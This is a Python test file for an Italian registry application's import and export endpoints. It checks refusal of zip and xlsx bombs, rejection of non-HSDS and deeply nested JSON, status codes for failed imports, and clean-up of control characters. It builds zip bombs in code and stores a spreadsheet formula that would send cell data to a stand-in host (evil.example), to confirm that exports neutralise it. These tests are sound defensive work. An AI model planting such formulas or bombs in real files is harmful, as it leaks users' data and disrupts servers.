"""Imports and exports against hostile or odd input: zip bombs, JSON that is not HSDS or is
nested too deep, one status convention for every import, stored control characters and
formula-looking text in exports, the declared type of the HSDS export."""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile

import pytest
from openpyxl import load_workbook

from registry.access import Role
from registry.holders.tables import Holder
from registry.interventions.tables import FundedIntervention
from registry.resources.tables import Resource
from tests.conftest import Tenant

U = Role.UDP_ADMIN


def bomb(name: str, megabytes: int, header: bytes = b"id,name,description\n") -> bytes:
    """A small zip whose one member expands to `megabytes` MB of the same byte."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w") as member,
    ):
        member.write(header)
        block = b"a" * 1_000_000
        for _ in range(megabytes):
            member.write(block)
    return buffer.getvalue()


async def hsds_import(client, tenant: Tenant, content: bytes, query: str = "dry_run=true"):
    return await client.post(
        f"/api/interop/hsds/import?{query}", content=content, headers=tenant.headers(U)
    )


# --- archives -----------------------------------------------------------------------------


async def test_a_zip_bomb_is_refused_before_it_is_expanded(client, tenant: Tenant) -> None:
    data = bomb("organizations.csv", 120)
    assert len(data) < 200_000  # 120 MB inside
    response = await hsds_import(client, tenant, data)
    assert response.status_code == 413, response.text
    body = response.json()
    assert body["field"] == "file" and "organizations.csv" in body["detail"]


async def test_an_xlsx_bomb_is_refused_by_the_spreadsheet_imports(client, tenant: Tenant) -> None:
    data = bomb("xl/worksheets/sheet1.xml", 60, header=b"<worksheet>")
    for what in ("holders", "resources"):
        response = await client.post(
            f"/api/interop/{what}/import?dry_run=true",
            files={"file": ("enti.xlsx", data, "application/octet-stream")},
            headers=tenant.headers(U),
        )
        assert response.status_code == 413, response.text
        assert "sheet1.xml" in response.json()["detail"]
    response = await client.post(
        "/api/interventions/import?dry_run=true&filename=interventi.xlsx",
        content=data,
        headers=tenant.headers(U),
    )
    assert response.status_code == 413, response.text


def test_archive_limits_per_member_in_total_and_on_the_ratio() -> None:
    from registry.tabular.reading import ArchiveLimits, ArchiveTooLarge, TabularError, read_zip

    def archive(*members: tuple[str, bytes]) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
            for name, content in members:
                z.writestr(name, content)
        return buffer.getvalue()

    random_text = uuid.uuid4().hex.encode()  # short: not judged on its ratio
    small = ArchiveLimits(member_bytes=1_000, total_bytes=1_500, ratio=10, ratio_floor_bytes=100)
    ok = archive(("a.csv", random_text), ("b.csv", random_text))
    assert read_zip(ok, limits=small) == {"a.csv": random_text, "b.csv": random_text}
    # Only accepted members are read (and counted).
    assert read_zip(ok, lambda n: n == "a.csv", small) == {"a.csv": random_text}
    cases = {
        "per file": archive(("big.csv", bytes(range(256)) * 5)),
        "in all": archive(*[(f"{i}.csv", bytes(range(256)) * 3) for i in range(3)]),
        "compressed": archive(("zeros.csv", b"0" * 900)),
    }
    for needle, data in cases.items():
        with pytest.raises(ArchiveTooLarge) as refused:
            read_zip(data, limits=small)
        assert needle in refused.value.message and refused.value.status_code == 413
    many = archive(*[(f"{i}.csv", b"x") for i in range(5)])
    with pytest.raises(ArchiveTooLarge, match="more than 4 files"):
        read_zip(many, limits=ArchiveLimits(members=4))
    with pytest.raises(TabularError):
        read_zip(b"PK\x03\x04 not a zip")


# --- JSON that is not HSDS ----------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"42",
        b"[]",
        b'"hsds"',
        b"null",
        b'{"contents": "x"}',
        b'{"version": "3.1", "name": "no id"}',
        b'{"qualcosa": [1, 2]}',
        b"[1, 2, 3]",
    ],
)
async def test_json_that_is_not_hsds_is_a_400(client, tenant: Tenant, body: bytes) -> None:
    for query in ("dry_run=true", "dry_run=false"):
        response = await hsds_import(client, tenant, body, query)
        assert response.status_code == 400, (body, response.text)
        assert response.json()["field"] == "file"
        assert "not HSDS" in response.json()["detail"]


async def test_a_zip_without_hsds_tables_is_a_400(client, tenant: Tenant) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("spesa.csv", "prodotto,quantita\nlatte,2\n")
    response = await hsds_import(client, tenant, buffer.getvalue())
    assert response.status_code == 400, response.text
    assert "spesa.csv" in response.json()["detail"]


async def test_an_empty_hsds_collection_is_hsds(client, tenant: Tenant) -> None:
    for body in (
        b'{"organizations": []}',
        b'{"contents": [], "total_items": 0}',
        b'{"version": "3.1", "openapi_url": "https://example.org/openapi.json"}',
    ):
        response = await hsds_import(client, tenant, body)
        assert response.status_code == 200, response.text
        assert response.json()["rows_read"] == 0


@pytest.mark.parametrize("depth", [80, 100_000])
async def test_deeply_nested_json_is_a_400(client, tenant: Tenant, depth: int) -> None:
    body = b'{"organizations": ' + b"[" * depth + b"]" * depth + b"}"
    response = await hsds_import(client, tenant, body)
    assert response.status_code == 400, response.text
    assert "nested" in response.json()["detail"]
    nested = '{"id": "x", "name": "A", "description": "d", "note": ' + '{"a": ' * depth
    response = await hsds_import(client, tenant, (nested + "1" + "}" * (depth + 1)).encode())
    assert response.status_code == 400, response.text


# --- one status convention for every import -----------------------------------------------


async def test_every_all_or_nothing_import_answers_422_with_its_report(
    client, tenant: Tenant
) -> None:
    c1 = tenant.comuni[0]
    holders = (
        "tipo;settore;nome;comune_sede\n"
        f"association;third_sector;Buona {tenant.code};{c1}\n"
        "nessuno;third_sector;Tipo ignoto;\n"
    ).encode()
    resources = (
        f"title;category_code;unit;capacity;holder_id\nA;nessuna;hours;1;{tenant.holder_id}\n"
    ).encode()
    interventions = b"title;fund_source\nSenza fondo;lotteria\n"
    before = await Holder.count().where(Holder.ambito == tenant.ambito_id)
    for dry_run in ("true", "false"):
        for what, data in (("holders", holders), ("resources", resources)):
            response = await client.post(
                f"/api/interop/{what}/import?dry_run={dry_run}",
                files={"file": (f"{what}.csv", data, "text/csv")},
                headers=tenant.headers(U),
            )
            assert response.status_code == 422, (what, response.text)
            report = response.json()
            assert report["rejected"] >= 1 and report["created"] == 0 and report["errors"]
        response = await client.post(
            f"/api/interventions/import?dry_run={dry_run}",
            content=interventions,
            headers=tenant.headers(U),
        )
        assert response.status_code == 422, response.text
        assert response.json()["rejected"] == 1
    assert await Holder.count().where(Holder.ambito == tenant.ambito_id) == before
    assert (
        await FundedIntervention.count().where(FundedIntervention.ambito == tenant.ambito_id) == 0
    )
    # The import ran and everything was good: 200 with the same report shape.
    good = f"tipo;settore;nome;comune_sede\nassociation;third_sector;Nuova {tenant.code};{c1}\n"
    response = await client.post(
        "/api/interop/holders/import",
        files={"file": ("enti.csv", good.encode(), "text/csv")},
        headers=tenant.headers(U),
    )
    assert response.status_code == 200 and response.json()["created"] == 1


async def test_hsds_applies_what_it_can_unless_strict(client, tenant: Tenant) -> None:
    document = {
        "organizations": [
            {"id": str(uuid.uuid4()), "name": f"Buona {tenant.code}", "description": "d"},
            {"id": str(uuid.uuid4()), "name": "Senza descrizione"},
        ]
    }
    body = json.dumps(document).encode()
    before = await Holder.count().where(Holder.ambito == tenant.ambito_id)
    # Strict is all or nothing: 422 with the report, dry run or not, nothing written.
    for query in ("strict=true&dry_run=true", "strict=true"):
        response = await hsds_import(client, tenant, body, query)
        assert response.status_code == 422, response.text
        assert response.json()["rejected"] == 1 and response.json()["applied"] is False
    assert await Holder.count().where(Holder.ambito == tenant.ambito_id) == before
    # Not strict: the good record is written, the other reported: 200.
    response = await hsds_import(client, tenant, body, "dry_run=false")
    assert response.status_code == 200, response.text
    assert (response.json()["created"], response.json()["rejected"]) == (1, 1)
    assert await Holder.count().where(Holder.ambito == tenant.ambito_id) == before + 1


# --- exports of what is already stored ----------------------------------------------------


async def test_exports_survive_control_characters_already_stored(client, tenant: Tenant) -> None:
    # Written through the table, as rows stored before input validation existed.
    await Resource.update({Resource.title: "Trasporto\u000bsociale\u0007"}).where(
        Resource.id == tenant.resource_id
    )
    await Holder.update({Holder.name: "Associazione\u001fAlfa"}).where(
        Holder.id == tenant.holder_id
    )
    for name, column, expected in (
        ("resources", "title", "Trasporto sociale "),
        ("availability", "resource_title", "Trasporto sociale "),
        ("holders", "name", "Associazione Alfa"),
    ):
        for fmt in ("csv", "xlsx"):
            response = await client.get(
                f"/api/interop/export/{name}?format={fmt}", headers=tenant.headers(U)
            )
            assert response.status_code == 200, (name, fmt, response.text)
        rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
        index = rows[0].index(column)
        assert expected in [row[index] for row in rows[1:]], (name, rows)


async def test_the_hsds_package_neutralises_formulas_but_keeps_phone_numbers(
    client, tenant: Tenant
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Clicca")'
    await Holder.update(
        {
            Holder.name: formula,
            Holder.contacts: [{"kind": "phone", "value": "+39 031 5555", "label": ""}],
        }
    ).where(Holder.id == tenant.holder_id)
    response = await client.get(
        "/api/interop/hsds/export?format=datapackage", headers=tenant.headers(U)
    )
    assert response.status_code == 200
    package = response.content
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        organizations = list(
            csv.DictReader(io.StringIO(archive.read("organizations.csv").decode()))
        )
        phones = list(csv.DictReader(io.StringIO(archive.read("phones.csv").decode())))
    names = {row["name"] for row in organizations}
    assert "'" + formula in names and formula not in names
    assert "+39 031 5555" in {row["number"] for row in phones}
    # Imported back, the guard comes off: the holder is found unchanged, not renamed.
    response = await hsds_import(client, tenant, package)
    assert response.status_code == 200, response.text
    [item] = [i for i in response.json()["items"] if i["local_id"] == str(tenant.holder_id)]
    assert item["action"] == "unchanged", item


async def test_the_hsds_export_declares_what_it_answers(client, tenant: Tenant) -> None:
    schema = (await client.get("/schema/openapi.json")).json()
    content = schema["paths"]["/api/interop/hsds/export"]["get"]["responses"]["200"]["content"]
    assert content["application/json"]["schema"]["type"] == "object"
    assert content["application/zip"]["schema"] == {"type": "string", "format": "binary"}
    response = await client.get("/api/interop/hsds/export", headers=tenant.headers(U))
    assert isinstance(response.json(), dict)
    imports = schema["paths"]["/api/interop/holders/import"]["post"]["responses"]
    assert {"200", "422"} <= set(imports)
